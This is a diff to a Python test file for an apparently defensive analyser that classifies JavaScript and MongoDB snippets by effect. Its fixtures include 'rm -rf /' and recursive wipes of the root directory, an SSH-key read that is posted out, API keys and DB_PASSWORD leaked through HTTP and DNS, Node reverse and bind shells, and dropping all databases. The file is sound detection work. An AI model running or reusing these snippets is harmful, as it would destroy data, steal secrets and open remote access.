@@ -55,20 +55,30 @@ DELETES: Table = [
     ("import {deleteAsync} from 'del'; deleteAsync(['a/**', '!a/b'])", [("delete", "a/**", "bulk", "recursive")]),
     ("Deno.removeSync('/x', {recursive: true}); Bun.file('y').delete()",
      [("delete", "/x", "recursive"), ("delete", "y")]),
-    (FS + "for (const f of fs.readdirSync('/data')) fs.unlinkSync('/data/' + f)", [("delete", "/data", "bulk")]),
+    (FS + "for (const f of fs.readdirSync('/data')) fs.unlinkSync('/data/' + f)", [("delete", "/data/*", "bulk")]),
     (FS + "fs.readdir('/data', (e, all) => all.forEach(f => fs.unlink(path.join('/data', f), () => 0)))",
-     [("delete", "/data", "bulk")]),
+     [("delete", "/data/*", "bulk")]),
     (FS + "fs.readdirSync('.').filter(f => f.endsWith('.log')).map(f => fs.rmSync(f))", [("delete", "*.log", "bulk")]),
     (FS + "for (const f of fs.readdirSync('logs')) if (/\\.log$/.test(f)) fs.rmSync(`logs/${f}`)",
      [("delete", "logs/*.log", "bulk")]),
-    ("for (const f of require('glob').sync('src/**/*.js')) fs.unlinkSync(f)", [("delete", "src/**/*.js", "bulk")]),
+    ("for (const f of require('glob').sync('src/**/*.js')) fs.unlinkSync(f)", [("delete", "src/**/*.js", "bulk", "recursive")]),
     ("function d(p) { for (const f of fs.readdirSync(p)) { const q = p + '/' + f; fs.statSync(q).isDirectory() ? d(q)"
-     " : fs.unlinkSync(q) } } d('/srv')", [("delete", "/srv", "bulk", "recursive"), ("delete", "/srv", "bulk")]),
+     " : fs.unlinkSync(q) } } d('/srv')", [("delete", "/srv/*", "bulk", "recursive")]),
     ("fs.rmSync(os.homedir() + '/x'); fs.rmSync(process.env.HOME); fs.rmSync(process.env.DIR + '/y')",
      [("delete", "~/x"), ("delete", "~"), ("delete", hole("DIR") + "/y")]),
     ("fs.rmSync(path.join(__dirname, '..', 'a')); fs.rmSync(path.resolve('x', '/etc'))",
      [("delete", "../a"), ("delete", "/etc")]),
     ("fs.rmSync(process.argv[2])", [("delete", hole())]),
+    ("const made = []; made[0] = '/'; fs.rmSync(made[0], {recursive: true})", WIPE),
+    ("function* all() { yield '/' } for (const p of all()) fs.rmSync(p, {recursive: true})", WIPE),
+    ("function W(p) { this.p = p } W.prototype.go = 1; const o = {p: '/', go() { fs.rmSync(this.p, {recursive: true}) }};"
+     " new W('x'); o.go()", WIPE),
+    ("const f = ({dir = '/', ...rest} = {}) => fs.rmSync(dir, {recursive: true}); f()", WIPE),
+    ("let d = '/'; function set() { let d = 'x'; d = 'y' } set(); fs.rmSync(d, {recursive: true})", WIPE),
+    ("fs.rmSync(fs.mkdtempSync(os.tmpdir() + '/a-'), {recursive: true})", [("delete", f"/tmp/tmp{hole()}", "recursive")]),
+    ("process.chdir('/srv'); fs.rmSync('data')", [("delete", "/srv/data")]),
+    ("fs.readdirSync('/srv', {withFileTypes: true}).forEach(e => fs.rmSync(path.join(e.parentPath, e.name)))",
+     [("delete", "/srv/*", "bulk")]),
 ]  # fmt: skip
 
 FILES: Table = [
@@ -99,7 +109,7 @@ PROGRAMS: Table = [
     ("await Bun.$`rm -rf ${'/'}`; Bun.spawn(['rm', 'x'])", [("shell", "rm -rf /"), ("run", "rm", "x")]),
     ("import {$} from 'zx'; await $`rm -rf /`", [("shell", "rm -rf /")]),
     ("import {execa, execaCommand} from 'execa'; execa('rm', ['x']); execaCommand('rm y')",
-     [("run", "rm", "x"), ("run", "rm", "y")]),
+     [("run", "rm", "x"), ("shell", "rm y")]),
     ("require('shelljs').rm('-rf', ['a', 'b']); require('shelljs').exec('rm c')",
      [("run", "rm", "-rf", "a", "b"), ("shell", "rm c")]),
     ("new Deno.Command('rm', {args: ['x']}).outputSync(); Deno.run({cmd: ['rm', 'y']})",
@@ -154,10 +164,17 @@ NETWORK: Table = [
      [("read", "~/.ssh/id_rsa"), ("send", "https://x", "secret"), ("http", "https://x", "post")]),
     ("fetch('https://x', {method: 'POST', body: fs.readFileSync('notes.txt')})",
      [("read", "notes.txt"), ("http", "https://x", "post")]),
+    ("axios.post('https://x', {key: process.env.MY_API_KEY}); fetch('https://y', {headers: {a: process.env.MY_TOKEN}})",
+     [("send", "https://x", "secret"), ("http", "https://x", "post"), ("fetch", "https://y")]),
+    ("require('dns').lookup(`${process.env.DB_PASSWORD}.x.example`, () => {})",
+     [("send", f"{hole('DB_PASSWORD')}.x.example", "secret")]),
     ("const s = require('net').connect(4444, '1.2.3.4'), h = require('child_process').spawn('/bin/sh');"
      "s.pipe(h.stdin); h.stdout.pipe(s)", [("run", "/bin/sh"), ("reverse_shell", "1.2.3.4")]),
     (CP + "const c = new (require('net').Socket)(); c.connect(1, 'h', () => c.on('data', d => cp.exec(d + '')))",
      [("reverse_shell", "h")]),
+    ("require('net').createServer(s => s.pipe(require('child_process').spawn('/bin/sh').stdin)).listen(99)",
+     [("listen", "99"), ("run", "/bin/sh"), ("reverse_shell", "a connection")]),
+    ("require('net').connect(99, 'h'); require('child_process').execSync('bash build.sh')", [("shell", "bash build.sh")]),
 ]  # fmt: skip
 
 STORES: Table = [
@@ -244,6 +261,10 @@ MONGO: Table = [
     ("db.getCollectionNames().forEach(c => db[c].drop())", [("store_drop", "", "all")]),
     ("db.getCollectionNames().forEach(function (c) { db.getCollection(c).drop() })", [("store_drop", "", "all")]),
     ("db.getMongo().getDBNames().forEach(n => db.getSiblingDB(n).dropDatabase())", [("store_drop", "", "all")]),
+    ("db.adminCommand({listDatabases: 1}).databases.forEach(d => db.getSiblingDB(d.name).dropDatabase())",
+     [("store_read", ""), ("store_drop", "", "all")]),
+    ("db.u.bulkWrite([{deleteMany: {filter: {}}}]); db.v.find({a: 1}).count()",
+     [("store_delete", "u", "unfiltered"), ("store_read", "v")]),
     ("db.u.deleteMany({}); db.u.remove({})", [("store_delete", "u", "unfiltered")]),
     ("db.u.deleteMany({a: 1}); db.v.deleteOne({})", [("store_delete", "u"), ("store_delete", "v")]),
     ("db.u.updateMany({}, {$set: {a: 1}}); db.u.updateMany({b: 1}, {})",
@@ -269,19 +290,18 @@ def test_mongo_shell_code_is_read_as_what_it_does(source: str, expected: list[Ca
 
 
 UNREADABLE = [
-    ("a;" * 40_000, "nesting"),
+    ("a;" * 60_000, "budget"),
     ("(" * 400, "nesting"),
     ("!" * 1_000 + "x", "nesting"),
-    ("x = " * 400 + "1", "nesting"),
-    ("x = " * 9_000 + "1", "syntax"),
+    ("x = " * 400 + "1", "syntax"),
+    ("x = " * 9_000 + "1", "budget"),
     ("a" + ".b()" * 3_000, "nesting"),
     ("for (;a < 1;) { fs.rmSync('x' ", "syntax"),
     ("@@ ) fs.rmSync('/') (", "syntax"),
     ("'" * 20_000, "syntax"),
     ("~^}" * 5_000, "syntax"),
-    ("await+" * 5_000, "syntax"),
+    ("await+" * 5_000, "budget"),
     ("console.log(" + hole("X") + ")", "payload"),
-    ("for (let i = 0; i < 1e9; i++) for (let j = 0; j < 1e9; j++) for (let k = 0; k < 1e9; k++) x = 1", "budget"),
     ("".join(f"function f{i}() {{ f{i + 1}(); f{i + 1}(); f{i + 1}() }}" for i in range(90)) + "f0()", "nesting"),
 ]
 
@@ -301,6 +321,7 @@ HOSTILE = [
     "function f() { f(); f() } f(); class A { constructor() { new A() } } new A()",
     "'\\ud800 \\u{110000} \\x'; fs.rmSync('\\ud83d')",
     "s = 'a'.repeat(60000); s.replace(/(a+)+$/, 'x')",
+    "for (let i = 0; i < 1e9; i++) for (let j = 0; j < 1e9; j++) for (let k = 0; k < 1e9; k++) x = 1",
     "\0" * 100,
     "\ud800",
 ]
